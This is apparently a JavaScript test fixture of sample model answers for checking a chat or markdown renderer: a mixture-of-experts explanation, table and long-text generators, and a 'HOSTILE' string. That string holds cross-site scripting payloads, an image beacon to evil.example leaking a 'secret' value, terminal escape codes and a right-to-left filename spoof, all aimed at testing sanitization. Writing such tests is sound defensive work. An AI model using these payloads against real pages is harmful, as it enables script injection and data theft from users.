// Answers as models write them: for the browser tests, for pictures, and for a look by hand.

export const MARKDOWN = `A **mixture of experts** replaces one large feed-forward network by many small ones, of which a *router* picks a few for each token.

### How a token passes

1. Attention mixes it with what came before.
2. The router scores all experts and keeps the best eight:
   $p_i = \\mathrm{softmax}(W x)_i$
3. Their outputs are added, weighted:

$$
y = \\sum_{i \\in \\mathrm{top}_8} p_i \\cdot E_i(x)
$$

| | dense | mixture |
|---|--:|--:|
| parameters | 4 B | 25 B |
| used for a token | 4 B | 3.8 B |
| memory read | 2.2 GB | 2.2 GB |

\`\`\`python
def route(x, experts, k=8):
    scores = x @ gate            # one score for each expert
    best = np.argsort(scores)[-k:]
    weights = softmax(scores[best])
    return sum(w * experts[i](x) for w, i in zip(weights, best))
\`\`\`

> More capacity for the same arithmetic: that is the whole bargain.

- [x] fits on several machines
- [ ] fits into one laptop

See [the overview](https://example.org/moe) for more.`;

export const THOUGHTS = `The person knows neural networks, so I can skip what a layer is.

I should start from the feed-forward block, because that is what is replaced. Then routing, then what it costs. A small table might help, and a few lines of code.

Let me check the numbers: eight of 128 experts, thirty layers.`;

export const HOSTILE = `<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">

[click](javascript:window.hacked=3) ![pixel](https://evil.example/p.gif?q=secret) <a href="javascript:window.hacked=4">a</a>

<iframe srcdoc="<script>parent.hacked=5</script>"></iframe> <style>body { display: none }</style>

\`\`\`html
</code></pre><script>window.hacked = 6</script>
\`\`\`

[data](data:text/html,<script>window.hacked=7</script>) <svg onload="window.hacked=8">

Colours \u001b[31mred\u001b[0m and a title \u001b]0;owned\u0007, and access\u202eexe.txt, zero\u0000width.

$\\text{<img src=x onerror=window.hacked=9>}$ | <b onmouseover=window.hacked=10>x</b> |
|---|`;

export function giantTable(rows = 3000, columns = 12) {
  const line = (f) => `| ${Array.from({ length: columns }, (_, c) => f(c)).join(" | ")} |`;
  return [
    line((c) => `column ${c}`),
    line(() => "---"),
    ...Array.from({ length: rows }, (_, r) => line((c) => `${r * c}`)),
  ].join("\n");
}

export function longText(characters = 100_000) {
  const sentence = "The quick brown fox jumps over the lazy dog, and *then* rests for a while under the old oak tree. ";
  let out = "";
  for (let i = 0; out.length < characters; ++i) out += (i % 7 === 6 ? "\n\n" : "") + sentence;
  return out.slice(0, characters);
}

export const ANSWERS = [
  { for: /hostile/i, text: HOSTILE },
  { for: /table/i, text: giantTable(40, 5) },
  { for: /long/i, text: longText(20_000) },
  { for: /short/i, text: "Yes." },
  { for: /./, thoughts: THOUGHTS, text: MARKDOWN },
];
